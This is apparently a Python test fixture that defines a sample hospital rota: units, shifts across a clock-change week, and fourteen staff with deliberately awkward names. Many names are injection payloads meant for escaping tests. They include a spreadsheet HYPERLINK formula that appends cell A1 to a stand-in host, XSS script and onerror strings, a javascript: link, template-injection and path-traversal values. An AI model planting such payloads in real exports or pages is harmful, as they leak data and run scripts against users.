"""The hospital of the sample run: 3 units, 14 people, the week in which the clock goes back, and awkward names."""

from __future__ import annotations

from datetime import date, timedelta

ZONE = "Europe/London"
FIRST_DAY = date(2026, 10, 19)
DAYS = tuple(FIRST_DAY + timedelta(days=n) for n in range(7))
LONG_NAME = "Intensive Care / High Dependency & [B]ay"
UNITS = (
    ("ICU", LONG_NAME, "critical_care", 12),
    ("W1", '=HYPERLINK("http://x.invalid","Ward 1")', "ward", 24),
    ("NA", "Notaufnahme Süd", "emergency", 16),
)
SHIFTS = (
    ("E", "Early", "07:00", "15:00", False, "#f2c14e", 450),
    ("L", "Late", "14:30", "22:30", False, "#7fb7be", 450),
    ("N", "Night", "22:00", "07:30", True, "#33436b", 540),
)
PEOPLE = (
    ("0017", "[red]", "ICU", "RN"),
    ("S2", '=HYPERLINK("http://x.invalid/?"&A1,"rota")', "ICU", "RN"),
    ("S3", "</script><script>alert(1)</script>", "ICU", "RN"),
    ("S4", "Jürgen Müßig", "ICU", "HCA"),
    ("S5", "[/ICU]", "ICU", "HCA"),
    ("-6", "-1+1", "W1", "RN"),
    ("s2", 'O\'Brien "Ann" & Co', "W1", "RN"),
    ("../S8", "{{7*7}}", "W1", "RN"),
    ("CON", "<img src=x onerror=alert(1)>", "W1", "HCA"),
    ("S10", "[x](javascript:alert(3))", "W1", "HCA"),
    ("S11", "＝1+1", "NA", "RN"),
    ("@12", "+441632960000", "NA", "RN"),
    ("S13", ":warning: 'tis", "NA", "RN"),
    ("S14", "Bank Only", "NA", "HCA"),
)
SHIFT_MINUTES = {"E": (7 * 60, 15 * 60), "L": (14 * 60 + 30, 22 * 60 + 30), "N": (22 * 60, 31 * 60 + 30)}
